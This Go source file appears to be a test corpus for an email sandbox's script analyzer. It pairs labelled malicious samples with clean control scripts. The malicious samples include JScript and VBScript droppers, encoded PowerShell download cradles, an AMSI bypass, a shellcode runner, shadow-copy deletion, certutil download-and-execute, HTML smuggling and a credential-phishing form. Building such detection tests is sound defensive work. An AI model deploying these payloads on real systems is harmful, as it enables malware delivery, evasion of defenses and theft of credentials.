package corpus

import (
	"encoding/base64"
	"strings"

	"github.com/airlockmail/airlock/sandboxd/analyzer/script"
	"github.com/airlockmail/airlock/verdict"
)

const (
	jsDropper = `var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "` + payloadURL + `", false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Type = 1; s.Open(); s.Write(x.responseBody);
var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\upd.exe";
s.SaveToFile(p, 2);
sh.Run(p, 0, false);
`
	vbsDropper = `Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -nop -w hidden -enc ` + "%ENC%" + `", 0, False
`
	cradle = "IEX (New-Object Net.WebClient).DownloadString('" + scriptURL + "')"
)

func scriptSamples() []Sample {
	vbs := strings.ReplaceAll(vbsDropper, "%ENC%", PSEncode(cradle))
	var chr strings.Builder
	chr.WriteString("Dim c\r\nc = ")
	for i, r := range `CreateObject("WScript.Shell").Run "calc.exe"` {
		if i > 0 {
			chr.WriteString(" & ")
		}
		chr.WriteString("Chr(" + itoa(int(r)) + ")")
	}
	chr.WriteString("\r\nExecute c\r\n")
	var codes []string
	for _, r := range `var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c whoami");` {
		codes = append(codes, itoa(int(r)))
	}
	obfJS := "var k = String.fromCharCode(" + strings.Join(codes, ",") + ");\neval(k);\n"
	zipped := Zip(ZipEntry{Name: "invoice.js", Data: []byte(jsDropper)})
	smuggle := `<!DOCTYPE html><html><head><title>Document</title></head><body><p>Your document is downloading…</p><script>
var d = "` + base64.StdEncoding.EncodeToString(zipped) + `";
var bin = atob(d); var arr = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { arr[i] = bin.charCodeAt(i); }
var blob = new Blob([arr], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob);
a.download = "invoice.zip"; document.body.appendChild(a); a.click();
</script></body></html>`
	smuggleText := `<!DOCTYPE html><html><body><script>
var d = "` + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("Quarterly report, nothing to see here. ", 8))) + `";
var blob = new Blob([atob(d)], {type: "text/plain"});
if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "report.txt"); }
else { var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "report.txt"; a.click(); }
</script></body></html>`
	return []Sample{
		{Name: "dropper.js", Want: verdict.Malicious, Why: "JScript: XMLHTTP download, ADODB.Stream save, WScript.Shell run", Data: []byte(jsDropper)},
		{Name: "obfuscated.js", Want: verdict.Malicious, Why: "fromCharCode chain evaluated with eval; the emulator sees it run cmd /c whoami", Data: []byte(obfJS)},
		{Name: "dropper.vbs", Want: verdict.Malicious, Why: "VBScript starting hidden PowerShell with an encoded download cradle", Data: []byte(vbs)},
		{Name: "chr-chain.vbs", Want: verdict.HighlySuspicious, Why: "Chr() chain built and run with Execute", Data: []byte(chr.String())},
		{Name: "encoded.vbe", Want: verdict.Malicious, Why: "Script-Encoded VBScript dropper", Data: []byte(script.EncodeVBE(vbs))},
		{Name: "cradle.ps1", Want: verdict.Malicious, Why: "PowerShell download cradle", Data: []byte(cradle + "\n")},
		{Name: "amsi-bypass.ps1", Want: verdict.Malicious, Why: "AMSI bypass", Data: []byte(`[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)` + "\n")},
		{Name: "shellcode-runner.ps1", Want: verdict.HighlySuspicious, Why: "VirtualAlloc + CreateThread from PowerShell", Data: []byte(`$a = [Win32]::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $a, $sc.Length)
[Win32]::CreateThread(0, 0, $a, 0, 0, 0)
`)},
		{Name: "encoded.bat", Want: verdict.Malicious, Why: "batch starting powershell -enc with a cradle", Data: []byte("@echo off\r\npowershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand " + PSEncode(cradle) + "\r\n")},
		{Name: "ransom.bat", Want: verdict.Malicious, Why: "deletes shadow copies", Data: []byte("@echo off\r\nvssadmin.exe delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\n")},
		{Name: "certutil.bat", Want: verdict.Malicious, Why: "certutil download then start", Data: []byte("@echo off\r\ncertutil.exe -urlcache -split -f " + payloadURL + " %TEMP%\\a.exe\r\nstart \"\" %TEMP%\\a.exe\r\n")},
		{Name: "persist.bat", Want: verdict.Suspicious, Why: "Run-key persistence", Data: []byte("@echo off\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d \"%APPDATA%\\upd.exe\" /f\r\n")},
		{Name: "dropper.hta", Want: verdict.Malicious, Why: "HTA running a PowerShell cradle", Data: []byte(`<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"><script language="VBScript">
Set s = CreateObject("WScript.Shell")
s.Run "powershell -w hidden -c ""` + cradle + `""", 0
self.close
</script></head><body></body></html>`)},
		{Name: "plain.hta", Want: verdict.Suspicious, Why: "an HTA that only shows text: still full-trust code", Data: []byte(`<html><head><title>Viewer</title><HTA:APPLICATION ID="v" APPLICATIONNAME="Viewer"></head><body><h1>Order confirmation</h1><p>Thank you.</p></body></html>`)},
		{Name: "dropper.wsf", Want: verdict.Malicious, Why: "WSF job with a JScript dropper", Data: []byte("<job id=\"a\"><script language=\"JScript\">\n" + jsDropper + "</script></job>\n")},
		{Name: "smuggling.html", Want: verdict.Malicious, Why: "HTML smuggling of a zip carrying a JScript dropper", Data: []byte(smuggle)},
		{Name: "smuggling-text.html", Want: verdict.HighlySuspicious, Why: "Blob built from base64 and offered for download (harmless text payload)", Data: []byte(smuggleText)},
		{Name: "phishing.html", Want: verdict.HighlySuspicious, Why: "password form posting off-site", Data: []byte(`<html><body><h2>Sign in to continue</h2>
<form action="https://login.example.net/collect.php" method="post"><input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form></body></html>`)},
		{Name: "autosubmit.html", Want: verdict.Suspicious, Why: "form auto-submitted to another site on load", Data: []byte(`<html><body onload="document.forms[0].submit()"><form action="https://track.example.net/c" method="post"><input type="hidden" name="id" value="4711"></form></body></html>`)},

		{Name: "clean-build.ps1", Want: verdict.Clean, Why: "ordinary build script that downloads nuget.exe", Data: []byte(`param([string]$Configuration = "Release")
$ErrorActionPreference = "Stop"
$nuget = Join-Path $PSScriptRoot "tools\nuget.exe"
if (-not (Test-Path $nuget)) {
    New-Item -ItemType Directory -Force -Path (Split-Path $nuget) | Out-Null
    Invoke-WebRequest -Uri https://dist.nuget.org/win-x86-commandline/latest/nuget.exe -OutFile $nuget
}
& $nuget restore App.sln
dotnet build App.sln -c $Configuration
dotnet test --no-build -c $Configuration
Write-Host "Build finished"
`)},
		{Name: "clean-build.bat", Want: verdict.Clean, Why: "ordinary batch build script", Data: []byte("@echo off\r\nsetlocal\r\nmsbuild App.sln /p:Configuration=Release /m\r\nif errorlevel 1 exit /b 1\r\nxcopy /y /i bin\\Release\\*.dll dist\\\r\necho done\r\n")},
		{Name: "clean-deploy.sh", Want: verdict.Clean, Why: "ordinary shell deploy script", Data: []byte("#!/bin/sh\nset -eu\ncurl -fsSL https://example.org/release.tar.gz -o /tmp/release.tar.gz\ntar -xzf /tmp/release.tar.gz -C /opt/app\nsystemctl restart app\n")},
		{Name: "clean-inventory.vbs", Want: verdict.Clean, Why: "admin script listing files", Data: []byte(`Option Explicit
Dim fso, folder, f
Set fso = CreateObject("Scripting.FileSystemObject")
Set folder = fso.GetFolder("C:\Reports")
For Each f In folder.Files
  WScript.Echo f.Name & vbTab & f.Size
Next
`)},
		{Name: "clean-newsletter.html", Want: verdict.Clean, Why: "newsletter with links, images and a search form", Data: []byte(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title></head><body>
<h1>Monthly news</h1><p>Read <a href="https://www.example.org/blog">our blog</a>.</p><img src="https://www.example.org/logo.png" alt="logo">
<form action="https://www.example.org/search" method="get"><input type="text" name="q"><button>Search</button></form>
<script>document.querySelectorAll("a").forEach(function (a) { a.target = "_blank"; });</script></body></html>`)},
		{Name: "clean-app.js", Want: verdict.Clean, Why: "browser code with XMLHttpRequest and JSON", Data: []byte(`(function () {
  "use strict";
  function load(url, cb) {
    var xhr = new XMLHttpRequest();
    xhr.open("GET", url);
    xhr.onload = function () { cb(JSON.parse(xhr.responseText)); };
    xhr.send();
  }
  load("/api/items", function (items) {
    var ul = document.getElementById("items");
    items.forEach(function (it) { var li = document.createElement("li"); li.textContent = it.name; ul.appendChild(li); });
  });
})();
`)},
	}
}

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b []byte
	for i > 0 {
		b = append([]byte{byte('0' + i%10)}, b...)
		i /= 10
	}
	return string(b)
}
